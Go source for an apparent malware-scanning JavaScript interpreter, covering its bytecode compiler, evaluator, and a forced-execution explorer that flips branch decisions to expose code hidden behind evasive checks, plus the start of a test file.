	ins := a.emit(opUnwind, uIdx, 0)
	pj := pendingJump{ins: ins, unwind: uIdx}
	if isBreak {
		lc.breaks = append(lc.breaks, pj)
	} else {
		lc.continues = append(lc.continues, pj)
	}
}

// expr compiles an expression, leaving exactly one value on the stack.
func (a *asm) expr(e Expr) {
	if v, n, ok := a.fold(e); ok {
		a.pending += n
		a.emitConst(v)
		return
	}
	a.pending++
	switch x := e.(type) {
	case *NumberLit:
		a.emitConst(NumberValue(x.Value))
	case *StringLit:
		a.emitConst(StringValue(x.Value))
	case *BoolLit:
		a.emitConst(BoolValue(x.Value))
	case *NullLit:
		a.emitConst(NullValue())
	case *ThisLit:
		a.emit(opThis, 0, 0)
		a.push(1)
	case *Ident:
		a.emit(opLoadName, a.c.nameIndex(x.Name), 0)
		a.push(1)
	case *ArrayLit:
		a.emit(opNewArray, 0, 0)
		a.push(1)
		for _, el := range x.Elems {
			if el == nil {
				a.emit(opArrayHole, 0, 0)
				continue
			}
			a.expr(el)
			a.emit(opArrayPush, 0, 0)
			a.pop(1)
		}
	case *ObjectLit:
		a.emit(opNewObject, 0, 0)
		a.push(1)
		for i, k := range x.Keys {
			a.expr(x.Values[i])
			a.emit(opSetProp, a.c.nameIndex(k), 0)
			a.pop(1)
		}
	case *FuncLit:
		p := a.c.compileFunc(x)
		a.emit(opClosure, p.index, 0)
		a.push(1)
	case *UnaryExpr:
		a.unary(x)
	case *UpdateExpr:
		a.update(x)
	case *BinaryExpr:
		a.expr(x.L)
		a.expr(x.R)
		a.emit(opBinary, binOpIndex[x.Op], 0)
		a.pop(1)
	case *LogicalExpr:
		a.expr(x.L)
		op := opJumpIfFalsePeek
		if x.Op == "||" {
			op = opJumpIfTruePeek
		}
		j := a.emit(op, 0, 0)
		a.pop(1)
		a.expr(x.R)
		a.patch(j, a.pc())
	case *CondExpr:
		a.expr(x.Cond)
		jf := a.emit(opJumpIfFalse, 0, jumpForceEligible)
		a.pop(1)
		a.expr(x.Then)
		a.pop(1)
		jend := a.emit(opJump, 0, 0)
		a.patch(jf, a.pc())
		a.expr(x.Else)
		a.pop(1)
		a.patch(jend, a.pc())
		a.push(1)
	case *AssignExpr:
		a.assign(x)
	case *SeqExpr:
		for i, sub := range x.Exprs {
			if i > 0 {
				a.emit(opPop, 0, 0)
				a.pop(1)
			}
			a.expr(sub)
		}
	case *CallExpr:
		a.call(x)
	case *NewExpr:
		a.expr(x.Callee)
		a.emit(opPrepNew, 0, 0)
		a.pop(1)
		a.calls++
		for _, arg := range x.Args {
			a.expr(arg)
		}
		a.emit(opNew, int32(len(x.Args)), 0)
		a.pop(len(x.Args))
		a.push(1)
		a.calls--
	case *MemberExpr:
		a.expr(x.Object)
		if x.Computed {
			a.expr(x.Property)
			a.emit(opGetMemberDyn, 0, 0)
			a.pop(1)
		} else {
			a.emit(opGetMember, a.c.nameIndex(x.Property.(*StringLit).Value), 0)
		}
	default:
		panic("js: unhandled expression in compiler")
	}
}

func (a *asm) unary(x *UnaryExpr) {
	switch x.Op {
	case "typeof":
		if id, ok := x.X.(*Ident); ok {
			// typeof of an identifier never charges for the operand: the
			// tree-walker looks it up directly without eval.
			a.emit(opTypeofName, a.c.nameIndex(id.Name), 0)
			a.push(1)
			return
		}
		a.expr(x.X)
		a.emit(opTypeofVal, 0, 0)
	case "delete":
		m, ok := x.X.(*MemberExpr)
		if !ok {
			// delete of a non-member is true without evaluating the operand.
			a.emitConst(BoolValue(true))
			return
		}
		a.expr(m.Object)
		if m.Computed {
			a.expr(m.Property)
			a.emit(opDelMemberDyn, 0, 0)
			a.pop(1)
		} else {
			a.emit(opDelMember, a.c.nameIndex(m.Property.(*StringLit).Value), 0)
		}
	case "void":
		a.expr(x.X)
		a.emit(opVoid, 0, 0)
	case "!":
		a.expr(x.X)
		a.emit(opNot, 0, 0)
	case "-":
		a.expr(x.X)
		a.emit(opNeg, 0, 0)
	case "+":
		a.expr(x.X)
		a.emit(opPlus, 0, 0)
	case "~":
		a.expr(x.X)
		a.emit(opBitNot, 0, 0)
	default:
		panic("js: unhandled unary in compiler")
	}
}

func (a *asm) update(x *UpdateExpr) {
	a.expr(x.X) // full evaluation of the target, charges included
	delta := int32(1)
	if x.Op == "--" {
		delta = -1
	}
	prefix := int32(0)
	if x.Prefix {
		prefix = 1
	}
	a.emit(opIncDec, delta, prefix)
	a.push(1) // pops old, pushes result then store value
	switch t := x.X.(type) {
	case *Ident:
		a.emit(opStoreNamePop, a.c.nameIndex(t.Name), 0)
		a.pop(1)
	case *MemberExpr:
		// storeTo re-evaluates the object (and computed property), exactly
		// like the tree-walker's second evaluation; the member node itself
		// is not re-charged.
		a.expr(t.Object)
		if t.Computed {
			a.expr(t.Property)
			a.emit(opSetMemberDyn, 0, 0)
			a.pop(3)
		} else {
			a.emit(opSetMember, a.c.nameIndex(t.Property.(*StringLit).Value), 0)
			a.pop(2)
		}
	default:
		a.emit(opInvalidTarget, 0, 0)
		a.pop(1)
	}
}

func (a *asm) assign(x *AssignExpr) {
	if x.Op != "=" {
		a.expr(x.Target)
		a.expr(x.Value)
		op := x.Op[:len(x.Op)-1]
		a.emit(opBinary, binOpIndex[op], 0)
		a.pop(1)
	} else {
		a.expr(x.Value)
	}
	switch t := x.Target.(type) {
	case *Ident:
		a.emit(opStoreName, a.c.nameIndex(t.Name), 0)
	case *MemberExpr:
		a.expr(t.Object)
		if t.Computed {
			a.expr(t.Property)
			a.emit(opSetMemberDyn, 0, 1)
			a.pop(2)
		} else {
			a.emit(opSetMember, a.c.nameIndex(t.Property.(*StringLit).Value), 1)
			a.pop(1)
		}
	default:
		a.emit(opInvalidTarget, 0, 0)
	}
}

func (a *asm) call(x *CallExpr) {
	if m, ok := x.Callee.(*MemberExpr); ok {
		a.expr(m.Object)
		if m.Computed {
			a.expr(m.Property)
			a.emit(opPrepCallMember, -1, 1)
			a.pop(2)
		} else {
			a.emit(opPrepCallMember, a.c.nameIndex(m.Property.(*StringLit).Value), 0)
			a.pop(1)
		}
	} else {
		a.expr(x.Callee)
		desc := int32(-1)
		if id, ok := x.Callee.(*Ident); ok {
			desc = a.c.nameIndex(id.Name)
		}
		a.emit(opPrepCall, desc, 0)
		a.pop(1)
	}
	a.calls++
	for _, arg := range x.Args {
		a.expr(arg)
	}
	a.emit(opCall, int32(len(x.Args)), 0)
	a.pop(len(x.Args))
	a.push(1)
	a.calls--
}

// fold evaluates literal-only subexpressions at compile time. It returns
// the folded value, the number of eval() entries the tree-walker would have
// charged for the folded subtree (so the constant carries the same step
// cost), and whether folding applied. Only operations with no side channel
// are folded: string concatenation allocates (heap accounting, spray
// hooks) and string comparison bills scan work, so both stay runtime ops.
func (a *asm) fold(e Expr) (Value, int32, bool) {
	switch x := e.(type) {
	case *NumberLit:
		return NumberValue(x.Value), 1, true
	case *StringLit:
		return StringValue(x.Value), 1, true
	case *BoolLit:
		return BoolValue(x.Value), 1, true
	case *NullLit:
		return NullValue(), 1, true
	case *UnaryExpr:
		v, n, ok := a.fold(x.X)
		if !ok {
			return Value{}, 0, false
		}
		switch x.Op {
		case "!":
			return BoolValue(!v.ToBoolean()), n + 1, true
		case "-":
			return NumberValue(-v.ToNumber()), n + 1, true
		case "+":
			return NumberValue(v.ToNumber()), n + 1, true
		case "~":
			return NumberValue(float64(^toInt32(v.ToNumber()))), n + 1, true
		case "void":
			return Undefined(), n + 1, true
		case "typeof":
			if _, isIdent := x.X.(*Ident); isIdent {
				return Value{}, 0, false
			}
			return StringValue(v.TypeOf()), n + 1, true
		}
		return Value{}, 0, false
	case *BinaryExpr:
		l, ln, ok := a.fold(x.L)
		if !ok {
			return Value{}, 0, false
		}
		r, rn, ok := a.fold(x.R)
		if !ok {
			return Value{}, 0, false
		}
		if l.IsString() && r.IsString() {
			// Concatenation allocates and comparisons charge scan work.
			return Value{}, 0, false
		}
		switch x.Op {
		case "+":
			if l.IsString() || r.IsString() {
				return Value{}, 0, false
			}
		case "instanceof", "in":
			return Value{}, 0, false
		}
		v, err := foldInterp.binaryOp(x.Op, l, r)
		if err != nil {
			return Value{}, 0, false
		}
		return v, ln + rn + 1, true
	}
	return Value{}, 0, false
}

// foldInterp evaluates constant folds; its budget is never consumable
// because folded operand kinds (non-string primitives) charge nothing.
var foldInterp = &Interp{StepLimit: 1 << 62, MaxHeap: 1 << 62}
