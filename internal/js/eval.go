package js

import (
	"fmt"
	"math"
	"strings"
)

// eval evaluates an expression.
func (it *Interp) eval(e Expr, sc *Scope) (Value, error) {
	if err := it.step(); err != nil {
		return Undefined(), err
	}
	switch x := e.(type) {
	case *NumberLit:
		return NumberValue(x.Value), nil
	case *StringLit:
		return StringValue(x.Value), nil
	case *BoolLit:
		return BoolValue(x.Value), nil
	case *NullLit:
		return NullValue(), nil
	case *ThisLit:
		return it.This, nil
	case *Ident:
		if v, ok := sc.Lookup(x.Name); ok {
			return v, nil
		}
		return Undefined(), it.throwNamed("ReferenceError", x.Name+" is not defined")
	case *ArrayLit:
		arr := NewArray()
		for i, el := range x.Elems {
			if el == nil {
				arr.setIndex(i, Undefined())
				continue
			}
			v, err := it.eval(el, sc)
			if err != nil {
				return Undefined(), err
			}
			arr.setIndex(i, v)
			if err := it.alloc(16); err != nil {
				return Undefined(), err
			}
		}
		return ObjectValue(arr), nil
	case *ObjectLit:
		o := NewObject()
		for i, k := range x.Keys {
			v, err := it.eval(x.Values[i], sc)
			if err != nil {
				return Undefined(), err
			}
			o.Set(k, v)
			if err := it.alloc(32); err != nil {
				return Undefined(), err
			}
		}
		return ObjectValue(o), nil
	case *FuncLit:
		fn := &Object{Class: ClassFunction, Name: x.Name, Fn: x, Env: sc, props: make(map[string]Value)}
		return ObjectValue(fn), nil
	case *UnaryExpr:
		return it.evalUnary(x, sc)
	case *UpdateExpr:
		return it.evalUpdate(x, sc)
	case *BinaryExpr:
		l, err := it.eval(x.L, sc)
		if err != nil {
			return Undefined(), err
		}
		r, err := it.eval(x.R, sc)
		if err != nil {
			return Undefined(), err
		}
		return it.binaryOp(x.Op, l, r)
	case *LogicalExpr:
		l, err := it.eval(x.L, sc)
		if err != nil {
			return Undefined(), err
		}
		if x.Op == "&&" {
			if !l.ToBoolean() {
				return l, nil
			}
		} else if l.ToBoolean() {
			return l, nil
		}
		return it.eval(x.R, sc)
	case *CondExpr:
		c, err := it.eval(x.Cond, sc)
		if err != nil {
			return Undefined(), err
		}
		if c.ToBoolean() {
			return it.eval(x.Then, sc)
		}
		return it.eval(x.Else, sc)
	case *AssignExpr:
		return it.evalAssign(x, sc)
	case *SeqExpr:
		var last Value
		for _, sub := range x.Exprs {
			v, err := it.eval(sub, sc)
			if err != nil {
				return Undefined(), err
			}
			last = v
		}
		return last, nil
	case *CallExpr:
		return it.evalCall(x, sc)
	case *NewExpr:
		return it.evalNew(x, sc)
	case *MemberExpr:
		objV, err := it.eval(x.Object, sc)
		if err != nil {
			return Undefined(), err
		}
		name, err := it.memberName(x, sc)
		if err != nil {
			return Undefined(), err
		}
		return it.getMember(objV, name)
	default:
		return Undefined(), fmt.Errorf("js: unhandled expression %T", e)
	}
}

func (it *Interp) memberName(x *MemberExpr, sc *Scope) (string, error) {
	if !x.Computed {
		return x.Property.(*StringLit).Value, nil
	}
	pv, err := it.eval(x.Property, sc)
	if err != nil {
		return "", err
	}
	return valueToString(it, pv)
}

func (it *Interp) evalUnary(x *UnaryExpr, sc *Scope) (Value, error) {
	switch x.Op {
	case "typeof":
		// typeof of an undeclared identifier is "undefined", not a throw.
		if id, ok := x.X.(*Ident); ok {
			v, found := sc.Lookup(id.Name)
			if !found {
				return StringValue("undefined"), nil
			}
			return StringValue(v.TypeOf()), nil
		}
		v, err := it.eval(x.X, sc)
		if err != nil {
			return Undefined(), err
		}
		return StringValue(v.TypeOf()), nil
	case "delete":
		m, ok := x.X.(*MemberExpr)
		if !ok {
			return BoolValue(true), nil
		}
		objV, err := it.eval(m.Object, sc)
		if err != nil {
			return Undefined(), err
		}
		name, err := it.memberName(m, sc)
		if err != nil {
			return Undefined(), err
		}
		if o := objV.Object(); o != nil {
			o.Delete(name)
		}
		return BoolValue(true), nil
	case "void":
		if _, err := it.eval(x.X, sc); err != nil {
			return Undefined(), err
		}
		return Undefined(), nil
	}
	v, err := it.eval(x.X, sc)
	if err != nil {
		return Undefined(), err
	}
	switch x.Op {
	case "!":
		return BoolValue(!v.ToBoolean()), nil
	case "-":
		return NumberValue(-v.ToNumber()), nil
	case "+":
		return NumberValue(v.ToNumber()), nil
	case "~":
		return NumberValue(float64(^toInt32(v.ToNumber()))), nil
	default:
		return Undefined(), fmt.Errorf("js: unhandled unary %q", x.Op)
	}
}

func (it *Interp) evalUpdate(x *UpdateExpr, sc *Scope) (Value, error) {
	old, err := it.eval(x.X, sc)
	if err != nil {
		return Undefined(), err
	}
	n := old.ToNumber()
	var next float64
	if x.Op == "++" {
		next = n + 1
	} else {
		next = n - 1
	}
	if err := it.storeTo(x.X, NumberValue(next), sc); err != nil {
		return Undefined(), err
	}
	if x.Prefix {
		return NumberValue(next), nil
	}
	return NumberValue(n), nil
}

func (it *Interp) evalAssign(x *AssignExpr, sc *Scope) (Value, error) {
	var newVal Value
	if x.Op == "=" {
		v, err := it.eval(x.Value, sc)
		if err != nil {
			return Undefined(), err
		}
		newVal = v
	} else {
		cur, err := it.eval(x.Target, sc)
		if err != nil {
			return Undefined(), err
		}
		rhs, err := it.eval(x.Value, sc)
		if err != nil {
			return Undefined(), err
		}
		op := strings.TrimSuffix(x.Op, "=")
		newVal, err = it.binaryOp(op, cur, rhs)
		if err != nil {
			return Undefined(), err
		}
	}
	if err := it.storeTo(x.Target, newVal, sc); err != nil {
		return Undefined(), err
	}
	return newVal, nil
}

func (it *Interp) storeTo(target Expr, v Value, sc *Scope) error {
	switch t := target.(type) {
	case *Ident:
		sc.Assign(t.Name, v)
		return nil
	case *MemberExpr:
		objV, err := it.eval(t.Object, sc)
		if err != nil {
			return err
		}
		name, err := it.memberName(t, sc)
		if err != nil {
			return err
		}
		o := objV.Object()
		if o == nil {
			return it.throwTypeError("cannot set property %q of %s", name, objV.TypeOf())
		}
		o.Set(name, v)
		if o.Class == ClassArray {
			if err := it.alloc(16); err != nil {
				return err
			}
		}
		return nil
	default:
		return it.throwTypeError("invalid assignment target")
	}
}

func (it *Interp) binaryOp(op string, l, r Value) (Value, error) {
	switch op {
	case "+":
		if l.IsString() && r.IsString() {
			// Both unit counts are already cached and UTF-16 length is
			// additive over concatenation, so the result needs no rescan.
			return it.newStringUnits(l.str+r.str, l.strLen+r.strLen)
		}
		if l.IsString() || r.IsString() ||
			(l.IsObject() && !r.IsObject()) || (r.IsObject() && !l.IsObject()) ||
			(l.IsObject() && r.IsObject()) {
			ls, lu, err := valueToStringUnits(it, l)
			if err != nil {
				return Undefined(), err
			}
			rs, ru, err := valueToStringUnits(it, r)
			if err != nil {
				return Undefined(), err
			}
			// Objects that are not arrays/strings still concatenate via
			// their string form, matching ES ToPrimitive-with-string hint
			// closely enough for document scripts.
			return it.newStringUnits(ls+rs, lu+ru)
		}
		return NumberValue(l.ToNumber() + r.ToNumber()), nil
	case "-":
		return NumberValue(l.ToNumber() - r.ToNumber()), nil
	case "*":
		return NumberValue(l.ToNumber() * r.ToNumber()), nil
	case "/":
		return NumberValue(l.ToNumber() / r.ToNumber()), nil
	case "%":
		return NumberValue(math.Mod(l.ToNumber(), r.ToNumber())), nil
	case "==":
		if err := it.chargeCompare(l, r); err != nil {
			return Undefined(), err
		}
		eq, err := looseEquals(it, l, r)
		return BoolValue(eq), err
	case "!=":
		if err := it.chargeCompare(l, r); err != nil {
			return Undefined(), err
		}
		eq, err := looseEquals(it, l, r)
		return BoolValue(!eq), err
	case "===":
		if err := it.chargeCompare(l, r); err != nil {
			return Undefined(), err
		}
		return BoolValue(strictEquals(l, r)), nil
	case "!==":
		if err := it.chargeCompare(l, r); err != nil {
			return Undefined(), err
		}
		return BoolValue(!strictEquals(l, r)), nil
	case "<", ">", "<=", ">=":
		return it.compareOp(op, l, r)
	case "&":
		return NumberValue(float64(toInt32(l.ToNumber()) & toInt32(r.ToNumber()))), nil
	case "|":
		return NumberValue(float64(toInt32(l.ToNumber()) | toInt32(r.ToNumber()))), nil
	case "^":
		return NumberValue(float64(toInt32(l.ToNumber()) ^ toInt32(r.ToNumber()))), nil
	case "<<":
		return NumberValue(float64(toInt32(l.ToNumber()) << (toUint32(r.ToNumber()) & 31))), nil
	case ">>":
		return NumberValue(float64(toInt32(l.ToNumber()) >> (toUint32(r.ToNumber()) & 31))), nil
	case ">>>":
		return NumberValue(float64(toUint32(l.ToNumber()) >> (toUint32(r.ToNumber()) & 31))), nil
	case "instanceof":
		return it.instanceOf(l, r)
	case "in":
		o := r.Object()
		if o == nil {
			return Undefined(), it.throwTypeError("'in' requires an object")
		}
		name, err := valueToString(it, l)
		if err != nil {
			return Undefined(), err
		}
		_, has := o.GetOwn(name)
		if !has {
			_, has = o.Getter(name)
		}
		return BoolValue(has), nil
	default:
		return Undefined(), fmt.Errorf("js: unhandled binary %q", op)
	}
}

// chargeCompare bills the step budget for string equality scans, which are
// O(min len) without allocating and therefore invisible to the heap cap.
func (it *Interp) chargeCompare(l, r Value) error {
	if !l.IsString() || !r.IsString() {
		return nil
	}
	n := len(l.str)
	if len(r.str) < n {
		n = len(r.str)
	}
	return it.work(n)
}

func (it *Interp) compareOp(op string, l, r Value) (Value, error) {
	if l.IsString() && r.IsString() {
		if err := it.chargeCompare(l, r); err != nil {
			return Undefined(), err
		}
		var res bool
		switch op {
		case "<":
			res = l.str < r.str
		case ">":
			res = l.str > r.str
		case "<=":
			res = l.str <= r.str
		default:
			res = l.str >= r.str
		}
		return BoolValue(res), nil
	}
	ln, rn := l.ToNumber(), r.ToNumber()
	if math.IsNaN(ln) || math.IsNaN(rn) {
		return BoolValue(false), nil
	}
	var res bool
	switch op {
	case "<":
		res = ln < rn
	case ">":
		res = ln > rn
	case "<=":
		res = ln <= rn
	default:
		res = ln >= rn
	}
	return BoolValue(res), nil
}

func (it *Interp) instanceOf(l, r Value) (Value, error) {
	ctor := r.Object()
	if ctor == nil || !ctor.IsCallable() {
		return Undefined(), it.throwTypeError("right side of instanceof is not callable")
	}
	o := l.Object()
	if o == nil {
		return BoolValue(false), nil
	}
	switch ctor.Name {
	case "Array":
		return BoolValue(o.Class == ClassArray), nil
	case "Function":
		return BoolValue(o.IsCallable()), nil
	case "Object":
		return BoolValue(true), nil
	case "Error":
		return BoolValue(o.Class == ClassError), nil
	}
	if c, ok := o.GetOwn("constructor"); ok {
		return BoolValue(c.Object() == ctor), nil
	}
	return BoolValue(false), nil
}

// evalCall evaluates a call expression, binding this for method calls.
func (it *Interp) evalCall(x *CallExpr, sc *Scope) (Value, error) {
	var this Value
	var fnVal Value

	if m, ok := x.Callee.(*MemberExpr); ok {
		objV, err := it.eval(m.Object, sc)
		if err != nil {
			return Undefined(), err
		}
		name, err := it.memberName(m, sc)
		if err != nil {
			return Undefined(), err
		}
		// Fast path: builtin string/array/function methods dispatch without
		// materializing a bound function object.
		if hf, ok := it.lookupMethod(objV, name); ok {
			args, err := it.evalArgs(x.Args, sc)
			if err != nil {
				return Undefined(), err
			}
			return hf(it, objV, args)
		}
		fnVal, err = it.getMember(objV, name)
		if err != nil {
			return Undefined(), err
		}
		this = objV
	} else {
		v, err := it.eval(x.Callee, sc)
		if err != nil {
			return Undefined(), err
		}
		fnVal = v
		this = it.This
	}

	fn := fnVal.Object()
	if fn == nil || !fn.IsCallable() {
		desc := "value"
		if id, ok := x.Callee.(*Ident); ok {
			desc = id.Name
		} else if m, ok := x.Callee.(*MemberExpr); ok && !m.Computed {
			desc = m.Property.(*StringLit).Value
		}
		return Undefined(), it.throwTypeError("%s is not a function", desc)
	}
	args, err := it.evalArgs(x.Args, sc)
	if err != nil {
		return Undefined(), err
	}
	return it.callFunction(fn, this, args)
}

func (it *Interp) evalArgs(exprs []Expr, sc *Scope) ([]Value, error) {
	args := make([]Value, len(exprs))
	for i, a := range exprs {
		v, err := it.eval(a, sc)
		if err != nil {
			return nil, err
		}
		args[i] = v
	}
	return args, nil
}

func (it *Interp) evalNew(x *NewExpr, sc *Scope) (Value, error) {
	calleeV, err := it.eval(x.Callee, sc)
	if err != nil {
		return Undefined(), err
	}
	ctor := calleeV.Object()
	if ctor == nil || !ctor.IsCallable() {
		return Undefined(), it.throwTypeError("constructor is not callable")
	}
	args, err := it.evalArgs(x.Args, sc)
	if err != nil {
		return Undefined(), err
	}
	// Builtin constructors behave the same with and without new.
	switch ctor.Name {
	case "Array", "Object", "String", "Number", "Boolean", "Error", "Function", "RegExp", "Date":
		return it.callFunction(ctor, Undefined(), args)
	}
	obj := NewObject()
	obj.Set("constructor", calleeV)
	ret, err := it.callFunction(ctor, ObjectValue(obj), args)
	if err != nil {
		return Undefined(), err
	}
	if ret.IsObject() {
		return ret, nil
	}
	return ObjectValue(obj), nil
}

// getMember implements property reads on any value kind.
func (it *Interp) getMember(v Value, name string) (Value, error) {
	switch v.Kind() {
	case KindString:
		if name == "length" {
			return NumberValue(float64(v.strLen)), nil
		}
		if idx, ok := arrayIndex(name); ok {
			return it.stringCharAt(v, idx)
		}
		if hf, ok := stringMethods[name]; ok {
			return ObjectValue(NewHostFunc(name, hf)), nil
		}
		return Undefined(), nil
	case KindNumber, KindBool:
		if hf, ok := primitiveMethods[name]; ok {
			return ObjectValue(NewHostFunc(name, hf)), nil
		}
		return Undefined(), nil
	case KindObject:
		o := v.obj
		if g, ok := o.Getter(name); ok {
			return g(it)
		}
		if val, ok := o.GetOwn(name); ok {
			return val, nil
		}
		if o.Class == ClassArray && name == "length" {
			return NumberValue(float64(o.arrayLen())), nil
		}
		if o.Class == ClassArray {
			if hf, ok := arrayMethods[name]; ok {
				return ObjectValue(NewHostFunc(name, hf)), nil
			}
		}
		if o.IsCallable() {
			if hf, ok := functionMethods[name]; ok {
				return ObjectValue(NewHostFunc(name, hf)), nil
			}
			if name == "length" && o.Fn != nil {
				return NumberValue(float64(len(o.Fn.Params))), nil
			}
		}
		if hf, ok := objectMethods[name]; ok {
			return ObjectValue(NewHostFunc(name, hf)), nil
		}
		return Undefined(), nil
	case KindUndefined, KindNull:
		return Undefined(), it.throwTypeError("cannot read property %q of %s", name, v.TypeOf())
	default:
		return Undefined(), nil
	}
}

// lookupMethod finds a builtin method for the method-call fast path.
func (it *Interp) lookupMethod(v Value, name string) (HostFn, bool) {
	switch v.Kind() {
	case KindString:
		hf, ok := stringMethods[name]
		return hf, ok
	case KindNumber, KindBool:
		hf, ok := primitiveMethods[name]
		return hf, ok
	case KindObject:
		o := v.obj
		// Own properties and getters shadow builtins.
		if _, ok := o.GetOwn(name); ok {
			return nil, false
		}
		if _, ok := o.Getter(name); ok {
			return nil, false
		}
		if o.Class == ClassArray {
			if hf, ok := arrayMethods[name]; ok {
				return hf, true
			}
		}
		if o.IsCallable() {
			if hf, ok := functionMethods[name]; ok {
				return hf, true
			}
		}
		if hf, ok := objectMethods[name]; ok {
			return hf, true
		}
	}
	return nil, false
}
