package js

// Forced execution (JSForce-style, PAPERS.md): re-run a script several
// times, each time forcing a different outcome at one force-eligible
// conditional branch, so code hidden behind time bombs, environment
// fingerprints, and debugger checks executes anyway. The explorer is a
// generational search over branch-decision prefixes rather than a heap
// snapshot machine: path k replays the decisions of a completed path up
// to some index i, flips decision i, and lets everything after i take
// its natural course. Re-execution from the top is the snapshot — the
// interpreter, scopes, and host objects are rebuilt deterministically by
// the caller's run function, which is cheaper and simpler than deep-
// copying the scope chain and heap at every branch, and it composes with
// host callbacks (SOAP notifications, exploit emulation) that cannot be
// snapshotted at all.
//
// Only branches the compiler marked force-eligible participate: if/else
// and ternary conditionals. Loop back-edges, switch dispatch, and &&/||
// short-circuits always take their natural outcome, so a decryptor
// for-loop cannot saturate the decision budget before the payload gate
// is reached. Forcing works on the bytecode VM only; ExploreForced
// disables the tree-walker for its duration (documented fallback).

// Default exploration bounds. Sixteen paths covers every single-flip
// variant of a script with up to fifteen guards plus the natural run;
// evasive loaders in the wild gate on one or two conditions.
const (
	DefaultForceMaxPaths     = 16
	DefaultForceMaxDecisions = 64
	DefaultForcePathSteps    = 2_000_000
)

// ForceConfig bounds one forced-execution exploration.
type ForceConfig struct {
	// MaxPaths caps the total number of explored paths including the
	// natural one (0 = DefaultForceMaxPaths).
	MaxPaths int
	// MaxDecisions caps recorded force-eligible decisions per path;
	// later branches take their natural outcome (0 = DefaultForceMaxDecisions).
	MaxDecisions int
	// PathSteps is the interpreter step budget granted to each path on
	// top of the steps already consumed (0 = DefaultForcePathSteps). The
	// interpreter's overall StepLimit remains a hard ceiling.
	PathSteps int64
}

func (c ForceConfig) maxPaths() int {
	if c.MaxPaths > 0 {
		return c.MaxPaths
	}
	return DefaultForceMaxPaths
}

func (c ForceConfig) maxDecisions() int {
	if c.MaxDecisions > 0 {
		return c.MaxDecisions
	}
	return DefaultForceMaxDecisions
}

func (c ForceConfig) pathSteps() int64 {
	if c.PathSteps > 0 {
		return c.PathSteps
	}
	return DefaultForcePathSteps
}

// ForceState drives one path: decisions with an index inside the prefix
// are forced to the prefix value; decisions past it take their natural
// outcome and are recorded so the scheduler can flip them next.
type ForceState struct {
	prefix       []bool
	trace        []bool
	maxDecisions int
	overflowed   bool
}

// next reports the outcome branch in.b-flagged jumps must take. natural
// is the outcome the condition value itself produced.
func (fs *ForceState) next(natural bool) bool {
	i := len(fs.trace)
	if i < len(fs.prefix) {
		v := fs.prefix[i]
		fs.trace = append(fs.trace, v)
		return v
	}
	if i >= fs.maxDecisions {
		fs.overflowed = true
		return natural
	}
	fs.trace = append(fs.trace, natural)
	return natural
}

// ForceResult summarizes one exploration.
type ForceResult struct {
	// Paths is the number of paths executed, including the natural one.
	Paths int
	// CrashedPaths counts forced paths abandoned on a FatalError (the
	// emulated process crash is recovered from, not propagated).
	CrashedPaths int
	// BudgetExhausted counts paths cut short by a step/heap budget or by
	// the per-path decision cap, plus one if the path frontier was still
	// non-empty when MaxPaths (or the global step ceiling) stopped the
	// exploration.
	BudgetExhausted int
	// NaturalErr is the error returned by the first (unforced) path, so
	// callers keep their single-run error semantics.
	NaturalErr error
}

// Exhausted reports whether any budget cut the exploration short.
func (r ForceResult) Exhausted() bool { return r.BudgetExhausted > 0 }

// ExploreForced runs run once naturally, then repeatedly with forced
// branch decisions until every single-flip frontier of the explored
// traces is covered or a budget stops it. run is invoked with the
// receiver's Force state installed; it must re-execute the same script
// through this interpreter (typically a closure over Interp.Run).
// Interpreter state is NOT rolled back between paths: observable
// features union monotonically across paths, which is exactly the
// detection semantics the deep-scan tier wants.
func (it *Interp) ExploreForced(cfg ForceConfig, run func() error) ForceResult {
	maxPaths := cfg.maxPaths()
	maxDecisions := cfg.maxDecisions()
	pathSteps := cfg.pathSteps()

	ceiling := it.StepLimit
	if ceiling == 0 {
		ceiling = DefaultStepLimit
	}

	prevForce := it.Force
	prevLimit := it.StepLimit
	prevTree := it.TreeWalk
	defer func() {
		it.Force = prevForce
		it.StepLimit = prevLimit
		it.TreeWalk = prevTree
	}()
	it.TreeWalk = false // forcing is VM-only; see package comment

	var res ForceResult
	visited := map[string]bool{"": true}
	queue := [][]bool{nil}

	for len(queue) > 0 {
		if res.Paths >= maxPaths || it.steps >= ceiling {
			res.BudgetExhausted++ // frontier abandoned
			return res
		}
		prefix := queue[0]
		queue = queue[1:]

		fs := &ForceState{prefix: prefix, maxDecisions: maxDecisions}
		it.Force = fs
		budget := it.steps + pathSteps
		if budget > ceiling {
			budget = ceiling
		}
		it.StepLimit = budget

		err := run()
		res.Paths++
		if res.Paths == 1 {
			res.NaturalErr = err
		}
		if err != nil && res.Paths > 1 {
			if _, fatal := AsFatal(err); fatal {
				res.CrashedPaths++
			}
		}
		if err == ErrBudget || err == ErrHeapLimit || fs.overflowed {
			res.BudgetExhausted++
		}

		// Frontier: flip each decision this path took naturally (indices
		// past the replayed prefix), breadth-first and deduplicated, so
		// exploration order — and therefore the journaled feature stream —
		// is deterministic.
		for i := len(prefix); i < len(fs.trace); i++ {
			flip := make([]bool, i+1)
			copy(flip, fs.trace[:i])
			flip[i] = !fs.trace[i]
			k := traceKey(flip)
			if !visited[k] {
				visited[k] = true
				queue = append(queue, flip)
			}
		}
	}
	return res
}

// AsFatal unwraps a FatalError if err carries one.
func AsFatal(err error) (*FatalError, bool) {
	for err != nil {
		if fe, ok := err.(*FatalError); ok {
			return fe, true
		}
		u, ok := err.(interface{ Unwrap() error })
		if !ok {
			return nil, false
		}
		err = u.Unwrap()
	}
	return nil, false
}

func traceKey(t []bool) string {
	b := make([]byte, len(t))
	for i, v := range t {
		if v {
			b[i] = '1'
		} else {
			b[i] = '0'
		}
	}
	return string(b)
}
