package js

import (
	"errors"
	"testing"
)

// probeInterp builds an interpreter with a probe(tag) host recorder and a
// die() host that raises an uncatchable FatalError (a crashed exploit).
func probeInterp() (*Interp, *[]string) {
	it := New()
	calls := &[]string{}
	it.Global.Declare("probe", ObjectValue(NewHostFunc("probe", func(_ *Interp, _ Value, args []Value) (Value, error) {
		if len(args) > 0 {
			*calls = append(*calls, args[0].Str())
		}
		return Undefined(), nil
	})))
	it.Global.Declare("die", ObjectValue(NewHostFunc("die", func(_ *Interp, _ Value, _ []Value) (Value, error) {
		return Undefined(), &FatalError{Err: errors.New("boom")}
	})))
	return it, calls
}

func explore(t *testing.T, it *Interp, cfg ForceConfig, src string) ForceResult {
	t.Helper()
	return it.ExploreForced(cfg, func() error {
		_, err := it.Run(src)
		return err
	})
}

func count(calls []string, tag string) int {
	n := 0
	for _, c := range calls {
		if c == tag {
			n++
		}
	}
	return n
}

